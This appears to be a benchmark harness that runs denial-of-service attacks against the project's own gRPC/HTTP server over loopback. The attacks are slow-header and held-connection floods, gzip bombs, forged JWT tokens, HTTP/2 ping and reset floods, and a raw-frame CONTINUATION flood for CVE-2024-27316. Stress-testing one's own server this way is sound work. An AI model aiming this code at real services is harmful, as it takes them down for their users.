/**
 * The attackers, in a process of their own: `node bench/attacks/attackers.ts NAME PORT`. Each keeps on until it is killed,
 * and says what it got once a second. They come from many addresses of the loopback interface, as strangers do.
 */

import { type ClientHttp2Session, connect as connectHttp2, constants } from "node:http2";
import { connect, type Socket } from "node:net";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";

export const HOME = "/matinee.catalog.v1.CatalogService/GetHome";
const CHECK = "/grpc.health.v1.Health/Check";
const WATCH = "/grpc.health.v1.Health/Watch";
/** The preface and an empty SETTINGS frame (RFC 9113, 3.4). */
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "latin1");
const PING = Buffer.from("\0\0\x08\x06\0\0\0\0\0attackme", "latin1");
const SETTINGS = Buffer.from("\0\0\x06\x04\0\0\0\0\0\0\x03\0\0\0\x64", "latin1");
/** A megabyte of empty arrays, which takes a parser longest. */
const ARRAYS = `{"x":[${"[],".repeat(349_000)}[]]}`;

/** What happened since the last report. */
const seen = new Map<string, number>();
const note = (what: string) => seen.set(what, (seen.get(what) ?? 0) + 1);

const port = Number(process.argv[3]);

/** The n-th attacker of so many. */
function address(n: number, of: number): string {
  const index = n % of;
  return `127.1.${Math.floor(index / 250)}.${1 + (index % 250)}`;
}

function dial(from: string, first: string | Uint8Array, then?: (socket: Socket) => void): Socket {
  const socket = connect({ port, host: "127.0.0.1", localAddress: from });
  socket.on("error", () => {});
  socket.once("connect", () => {
    socket.write(first);
    then?.(socket);
  });
  return socket;
}

/** Holds so many connections, and makes new ones for those that are closed: as many a second as a real attacker would. */
function hold(count: number, open: (n: number) => Socket, perSecond = 1_000): void {
  let held = 0;
  let next = 0;
  setInterval(() => {
    for (let budget = perSecond / 50; budget > 0 && held < count; budget--) {
      held += 1;
      const socket = open(next++);
      socket.on("data", () => {});
      socket.once("close", () => {
        held -= 1;
        note("closed");
      });
    }
  }, 20);
  setInterval(() => seen.set("held", held), 500);
}

/** Sends so many requests a second over connections that are kept as long as the server keeps them. */
function flood(perSecond: number, addresses: number, request: string | Uint8Array): void {
  const open = new Map<string, Socket>();
  let next = 0;
  const send = () => {
    const from = address(next++, addresses);
    let socket = open.get(from);
    if (socket === undefined || socket.destroyed || !socket.writable) {
      socket = dial(from, "");
      socket.on("data", (chunk) => {
        for (const [, status = ""] of String(chunk).matchAll(/HTTP\/1\.1 (\d+)/g)) note(status);
      });
      open.set(from, socket);
    }
    socket.write(request);
  };
  setInterval(() => {
    for (let budget = perSecond / 50; budget > 0; budget--) send();
  }, 20);
}

function post(path: string, headers: Readonly<Record<string, string>>, body: string | Uint8Array): Buffer {
  const lines = Object.entries({ "content-type": "application/json", ...headers }).map(
    ([name, value]) => `${name}: ${value}`,
  );
  const length = Buffer.byteLength(body);
  const head = [`POST ${path} HTTP/1.1`, "host: x", ...lines, `content-length: ${length}`, "\r\n"].join("\r\n");
  return Buffer.concat([Buffer.from(head), Buffer.from(body)]);
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`;

/** HTTP/2 sessions, one for each address, replaced when the server ends them. */
function sessions(count: number, use: (session: ClientHttp2Session) => void, everyMs: number): void {
  const open = (n: number) => {
    const session = connectHttp2(`http://127.0.0.1:${port}`, {
      createConnection: () => connect({ port, host: "127.0.0.1", localAddress: address(n, count) }),
    });
    session.on("error", () => note("session error"));
    const timer = setInterval(() => {
      if (!session.closed && !session.destroyed) use(session);
    }, everyMs);
    session.once("close", () => {
      clearInterval(timer);
      note("session closed");
      setTimeout(() => open(n), 500);
    });
  };
  for (let n = 0; n < count; n++) open(n);
}

export const ATTACKS: Readonly<Record<string, () => void>> = {
  "10,050 silent HTTP/2 connections of 4 addresses": () => hold(10_050, (n) => dial(address(n, 4), PREFACE)),
  "10,050 silent HTTP/2 connections of 200 addresses": () => hold(10_050, (n) => dial(address(n, 200), PREFACE)),
  "2,000 connections that send headers slowly": () =>
    hold(2_000, (n) =>
      dial(address(n, 20), "GET / HTTP/1.1\r\nhost: x\r\n", (socket) => {
        const timer = setInterval(() => socket.write("x-slow: y\r\n"), 2_000);
        socket.once("close", () => clearInterval(timer));
      }),
    ),
  "2,000 messages that never end": () =>
    hold(2_000, (n) => dial(address(n, 20), post(CHECK, {}, "{}").subarray(0, -1))),
  "400 gzip bombs a second, no token": () =>
    flood(400, 40, post(HOME, { "content-encoding": "gzip" }, gzipSync(ARRAYS))),
  "400 gzip bombs a second to what anyone may call": () =>
    flood(400, 40, post(CHECK, { "content-encoding": "gzip" }, gzipSync(ARRAYS))),
  "20 messages of 1 MB a second, no token": () => flood(20, 20, post(HOME, {}, ARRAYS)),
  "500 forged tokens a second": () => {
    const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
    const claims = encode({ iss: "profile", sub: "a", sid: "s", roles: ["operator"], permissions: [], exp: 4e9 });
    const forged = `${encode({ alg: "ES256", kid: "x" })}.${claims}.${"A".repeat(86)}`;
    flood(500, 40, post(HOME, { authorization: `Bearer ${forged}` }, "{}"));
  },
  "500 malformed messages a second": () => flood(500, 40, post(CHECK, {}, "{{{{")),
  "500 requests a second for what is not there": () => flood(500, 40, get("/nothing/here")),
  "500 probes and key sets a second": () =>
    flood(500, 40, get("/readyz") + get("/.well-known/jwks/profile.json") + get("/")),
  "5,500 health watches": () =>
    sessions(
      22,
      (session) => {
        const stream = session.request({
          ...{ ":method": "POST", ":path": WATCH, "content-type": "application/grpc", te: "trailers" },
        });
        stream.on("error", () => {});
        stream.once("close", () => note("watch ended"));
        stream.end(Buffer.alloc(5));
        stream.resume();
      },
      10,
    ),
  "pings, settings and resets": () => {
    hold(100, (n) =>
      dial(address(n, 10), PREFACE, (socket) => {
        const timer = setInterval(() => socket.write(Buffer.concat([PING, SETTINGS, PING])), 20);
        socket.once("close", () => clearInterval(timer));
      }),
    );
    sessions(
      10,
      (session) => {
        const stream = session.request({ ":path": "/readyz" });
        stream.on("error", () => {});
        stream.close(constants.NGHTTP2_CANCEL);
      },
      10,
    );
  },
  "header floods": () => {
    const many = Array.from({ length: 150 }, (_, n) => `x-header-${n}: ${"v".repeat(60)}`).join("\r\n");
    flood(200, 20, `GET /readyz HTTP/1.1\r\nhost: x\r\n${many}\r\n\r\n`);
    // HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316).
    const headers = Buffer.from("\0\0\x01\x01\0\0\0\0\x01\x82", "latin1");
    const more = Buffer.concat(Array.from({ length: 50 }, () => Buffer.from("\0\0\x01\x09\0\0\0\0\x01\x84", "latin1")));
    hold(100, (n) =>
      dial(address(n, 10), Buffer.concat([PREFACE, headers]), (socket) => {
        const timer = setInterval(() => socket.write(more), 50);
        socket.once("close", () => clearInterval(timer));
      }),
    );
  },
};

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").toString()) {
  const attack = ATTACKS[process.argv[2] ?? ""];
  if (attack === undefined || !(port > 0))
    throw new Error(`attackers.ts NAME PORT; names: ${Object.keys(ATTACKS).join("; ")}`);
  attack();
  setInterval(() => {
    process.send?.(Object.fromEntries(seen));
    seen.clear();
  }, 1_000);
  // Whoever started it has gone.
  process.once("disconnect", () => process.exit());
}
